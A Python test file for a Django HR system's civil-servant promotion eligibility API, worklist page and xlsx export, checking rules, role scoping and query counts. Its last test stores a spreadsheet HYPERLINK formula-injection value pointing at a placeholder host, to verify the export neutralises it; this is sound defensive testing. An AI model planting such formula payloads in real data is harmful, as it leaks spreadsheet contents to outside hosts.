"""Kenaikan pangkat: the list for a period from real records (golongan, TMT, annual predikat,
education, active position), the API, HR's worklist page with xlsx export, scoping."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from jabatan.models import Penempatan
from karier.models import UsulanKenaikanPangkat
from kinerja.models import AngkaKredit
from pegawai.models import Pegawai
from tests.factories import PegawaiFactory
from tests.jabatan.factories import JabatanFactory

from .factories import penilaian_tahunan

URL = "/api/v1/karier/kenaikan-pangkat/"
PERIODE = "2026-04"


def klien(user) -> APIClient:
    c = APIClient()
    c.force_authenticate(User.objects.get(pk=user.pk))
    return c


def karier(pegawai: Pegawai, *, golongan="III/b", tmt=date(2022, 1, 1), pendidikan="S1",
           predikat=("BAIK", "BAIK")) -> Pegawai:  # fmt: skip
    Pegawai.objects.filter(pk=pegawai.pk).update(
        golongan=golongan, tmt_golongan=tmt, pendidikan_jenjang=pendidikan
    )
    for tahun, p in zip((2025, 2024), predikat):
        if p:
            penilaian_tahunan(pegawai, tahun, p)
    return pegawai


@pytest.fixture
def karier_org(org):
    """Siti eligible; Andi too early; Rizki weak predikat in 2025; Budi at his ceiling
    (S1, III/d)."""
    karier(org.siti)
    karier(org.andi, tmt=date(2023, 1, 1))
    karier(org.rizki, predikat=("BUTUH_PERBAIKAN", "BAIK"))
    karier(org.kabid, golongan="III/d")
    return org


def test_api_hanya_yang_layak(karier_org):
    resp = klien(karier_org.hr).get(URL, {"periode": PERIODE})
    assert resp.status_code == 200
    hasil = resp.json()["results"]
    assert [r["nip"] for r in hasil] == [karier_org.siti.nip]
    siti = hasil[0]
    assert siti["golongan"] == "III/b" and siti["golongan_baru"] == "III/c"
    assert siti["pangkat_baru"] == "Penata" and siti["layak"] is True
    assert siti["status_usulan"] == "BELUM"


def test_api_semua_dengan_alasan(karier_org):
    hasil = klien(karier_org.hr).get(URL, {"periode": PERIODE, "semua": "1"}).json()["results"]
    alasan = {r["nama"]: r["alasan"] for r in hasil}
    assert alasan["Siti Rahmawati"] == []
    assert alasan["Andi Pratama"] == [
        "Masa dalam golongan III/b belum 4 tahun (TMT 01-01-2023; memenuhi 01-01-2027)."
    ]
    assert alasan["Rizki Firmansyah"] == ["Predikat kinerja 2025 Butuh Perbaikan (minimal Baik)."]
    assert alasan["Budi Santoso"] == ["Golongan III/d sudah mencapai batas pendidikan S1 (III/d)."]


def test_plafon_jabatan_dari_penempatan_aktif(karier_org):
    jabatan = JabatanFactory(jenjang="AHLI_PERTAMA")
    Penempatan.objects.create(
        pegawai=karier_org.siti, jabatan=jabatan, unit_kerja=karier_org.diskes, jenis="IMPOR"
    )
    hasil = klien(karier_org.hr).get(URL, {"periode": PERIODE}).json()["results"]
    assert hasil == []


def test_api_terlingkup(karier_org):
    karier(karier_org.kabid_disdik, golongan="III/d", pendidikan="S2")  # eligible, Disdik
    nip = lambda u: {r["nip"] for r in klien(u).get(URL, {"periode": PERIODE}).json()["results"]}  # noqa: E731
    assert nip(karier_org.hr) == {karier_org.siti.nip, karier_org.kabid_disdik.nip}
    assert nip(karier_org.operator_diskes) == {karier_org.siti.nip}
    assert nip(karier_org.kabid_disdik.user) == {karier_org.kabid_disdik.nip}
    assert nip(karier_org.andi.user) == set()


@pytest.mark.parametrize("periode", ["", "2025-05", "2023-02", "April"])
def test_api_periode_salah_400(karier_org, periode):
    resp = klien(karier_org.hr).get(URL, {"periode": periode})
    assert resp.status_code == 400
    assert "periode" in resp.json()


def test_api_jumlah_query_tetap(org):
    def hitung() -> int:
        c = klien(org.hr)
        with CaptureQueriesContext(connection) as ctx:
            assert c.get(URL, {"periode": PERIODE}).status_code == 200
        return len(ctx)

    karier(org.siti)
    satu = hitung()
    for p in PegawaiFactory.create_batch(49, unit_kerja=org.diskes):
        karier(p)
    # 1 the access scope (every role in one query); 2 the period schedule rows and
    # 3 the education table in force on the period (aturan); 4 the employees with both
    # predikat, the active position and the worklist status joined (the page); 5 the angka
    # kredit thresholds (aturan); 6 the count (the eligibility rule is a SQL filter, the list
    # is paginated in SQL); 7 the angka kredit ledger of the page's rows, in one query, also
    # when no row holds a jabatan fungsional (so a page of 1 and of 50 cost the same;
    # see test_api_jumlah_query_tetap_fungsional); 8 the stamp of the period's kept eligible
    # set (none here: the live filter; from the set, test_kandidat_kp.py).
    assert hitung() == satu == 8


# --- HR's worklist page ---------------------------------------------------------------------------


def test_halaman_hr_ekspor_xlsx(client, karier_org):
    client.force_login(karier_org.operator_diskes)
    resp = client.get(reverse("karier:kenaikan-pangkat"), {"periode": PERIODE})
    assert resp.status_code == 200
    assert "Siti Rahmawati" in resp.content.decode()
    assert resp.context["jumlah_layak"] == 1
    resp = client.get(
        reverse("karier:kenaikan-pangkat"), {"periode": PERIODE, "semua": "on", "format": "xlsx"}
    )
    assert resp["Content-Disposition"] == 'attachment; filename="kenaikan-pangkat-2026-04.xlsx"'
    lembar = load_workbook(BytesIO(resp.getvalue())).active
    baris = list(lembar.iter_rows(values_only=True))
    assert baris[0][:3] == ("NIP", "Nama", "Unit kerja")
    nama = {r[1]: r for r in baris[1:]}
    assert set(nama) == {"Budi Santoso", "Siti Rahmawati", "Andi Pratama"}
    assert nama["Siti Rahmawati"][7:10] == ("III/c", "Penata", "ya")


def test_hr_menandai_kemajuan_usulan(client, karier_org):
    client.force_login(karier_org.operator_diskes)
    resp = client.post(
        reverse("karier:kenaikan-pangkat-tandai", args=[karier_org.siti.nip]),
        {"periode": PERIODE, "status": "DIUSULKAN", "catatan": "Berkas lengkap",
         "kembali": f"?periode={PERIODE}"},
    )  # fmt: skip
    assert resp.status_code == 302
    usulan = UsulanKenaikanPangkat.objects.get()
    assert (usulan.pegawai, usulan.golongan_baru, usulan.status) == (
        karier_org.siti,
        "III/c",
        "DIUSULKAN",
    )
    hasil = klien(karier_org.hr).get(URL, {"periode": PERIODE}).json()["results"]
    assert hasil[0]["status_usulan"] == "DIUSULKAN"
    # Outside the operator's unit: 404, nothing written.
    resp = client.post(
        reverse("karier:kenaikan-pangkat-tandai", args=[karier_org.rizki.nip]),
        {"periode": PERIODE, "status": "DIUSULKAN"},
    )
    assert resp.status_code == 404
    assert UsulanKenaikanPangkat.objects.count() == 1


def test_halaman_bukan_untuk_pegawai_biasa(client, karier_org):
    client.force_login(karier_org.siti.user)
    assert client.get(reverse("karier:kenaikan-pangkat")).status_code == 404


# --- Periods and education ceilings from the rule rows (issue 13) ---------------------------


@pytest.mark.parametrize(
    ("periode", "regulasi"),
    [("2025-08", "Peraturan BKN Nomor 4 Tahun 2023 (berlaku 1 Januari 2024)"),
     ("2026-05", "Peraturan BKN Nomor 4 Tahun 2025 (berlaku 1 Oktober 2025)")],
)  # fmt: skip
def test_api_periode_menurut_regulasi_yang_berlaku_dan_menyebutnya(karier_org, periode, regulasi):
    resp = klien(karier_org.hr).get(URL, {"periode": periode, "semua": "1"})
    assert resp.status_code == 200, resp.json()
    siti = next(r for r in resp.json()["results"] if r["nip"] == karier_org.siti.nip)
    assert siti["dasar_aturan"] == (
        f"Periode: {regulasi}; Batas pendidikan: PP 99/2000 jo. PP 12/2002; Keputusan Kepala "
        "BKN Nomor 12 Tahun 2002 (berlaku 1 Januari 2000)"
    )


def test_api_menolak_bulan_di_luar_jadwal_pada_tanggalnya(karier_org):
    resp = klien(karier_org.hr).get(URL, {"periode": "2025-09"})
    assert resp.status_code == 400
    assert "Peraturan BKN Nomor 4 Tahun 2023" in resp.json()["periode"][0]


@pytest.mark.parametrize(
    ("pendidikan", "golongan", "layak"),
    [("SLTA", "III/a", True), ("SLTA", "III/b", False), ("D1", "III/a", True),
     ("D1", "III/b", False), ("SMPK", "II/c", True), ("SMPK", "II/d", False),
     ("SGPL", "III/b", True), ("SGPL", "III/c", False)],
)  # fmt: skip
def test_batas_pendidikan_menurut_kepka_bkn_12_2002(org, pendidikan, golongan, layak):
    karier(org.siti, golongan=golongan, pendidikan=pendidikan)
    hasil = klien(org.hr).get(URL, {"periode": PERIODE, "semua": "1"}).json()["results"]
    siti = next(r for r in hasil if r["nip"] == org.siti.nip)
    assert siti["layak"] is layak, siti["alasan"]


def test_halaman_dan_ekspor_menyebut_regulasinya(client, karier_org):
    client.force_login(karier_org.operator_diskes)
    resp = client.get(reverse("karier:kenaikan-pangkat"), {"periode": "2026-05"})
    teks = resp.content.decode()
    assert "Dasar aturan: Periode: Peraturan BKN Nomor 4 Tahun 2025" in teks
    resp = client.get(reverse("karier:kenaikan-pangkat"), {"periode": "2026-05", "format": "xlsx"})
    baris = list(load_workbook(BytesIO(resp.getvalue())).active.iter_rows(values_only=True))
    assert baris[0][-1] == "Dasar aturan"
    assert baris[1][-1].startswith("Periode: Peraturan BKN Nomor 4 Tahun 2025")


# --- Jabatan fungsional: cumulative angka kredit instead of years (PermenPANRB 1/2023) -------


@pytest.mark.parametrize(
    ("ak", "layak"), [("49.9999", False), ("50", True), ("50.0001", True)]
)
def test_fungsional_naik_dengan_angka_kredit_kumulatif(org, ak, layak):
    Penempatan.objects.create(pegawai=org.siti, jabatan=JabatanFactory(jenjang="AHLI_PERTAMA"),
                              unit_kerja=org.diskes, jenis="IMPOR")  # fmt: skip
    karier(org.siti, golongan="III/a", tmt=date(2024, 1, 1))  # two years only
    # The appraisals of 2024 and 2025 already converted 2 × 12.5; HR adds the rest.
    AngkaKredit.objects.create(pegawai=org.siti, tahun=2024, jenis="PENYESUAIAN",
                               jenjang="AHLI_PERTAMA", nilai=Decimal(ak) - 25,
                               keterangan="AK integrasi")  # fmt: skip
    hasil = klien(org.hr).get(URL, {"periode": PERIODE, "semua": "1"}).json()["results"]
    siti = next(r for r in hasil if r["nip"] == org.siti.nip)
    assert siti["layak"] is layak, siti["alasan"]
    if not layak:
        assert siti["alasan"] == [
            "Angka kredit kumulatif 49,9999 belum mencapai 50 untuk naik dari III/a sebagai "
            "Ahli Pertama (kurang 0,0001)."
        ]
    assert "Angka kredit: PermenPANRB Nomor 1 Tahun 2023" in siti["dasar_aturan"]


def test_api_jumlah_query_tetap_fungsional(org):
    def hitung() -> int:
        c = klien(org.hr)
        with CaptureQueriesContext(connection) as ctx:
            assert c.get(URL, {"periode": PERIODE}).status_code == 200
        return len(ctx)

    jabatan = JabatanFactory(jenjang="AHLI_MUDA")
    karier(org.siti)
    Penempatan.objects.create(pegawai=org.siti, jabatan=jabatan, unit_kerja=org.diskes,
                              jenis="IMPOR")  # fmt: skip
    satu = hitung()
    for p in PegawaiFactory.create_batch(49, unit_kerja=org.diskes):
        karier(p)
        Penempatan.objects.create(pegawai=p, jabatan=jabatan, unit_kerja=org.diskes,
                                  jenis="IMPOR")  # fmt: skip
    # The same 8 as test_api_jumlah_query_tetap: the ledger query is there either way.
    assert hitung() == satu == 8


def test_xlsx_kenaikan_pangkat_menetralkan_rumus(client, karier_org):
    """An imported name that is a formula reaches the xlsx as text (issue 16, item 5)."""
    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    Pegawai.objects.filter(pk=karier_org.siti.pk).update(nama=rumus)
    client.force_login(karier_org.operator_diskes)
    resp = client.get(
        reverse("karier:kenaikan-pangkat"), {"periode": PERIODE, "semua": "on", "format": "xlsx"}
    )
    lembar = load_workbook(BytesIO(resp.getvalue())).active
    sel = [c for r in lembar.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
    assert [(c.data_type, c.value) for c in sel] == [("s", "'" + rumus)]
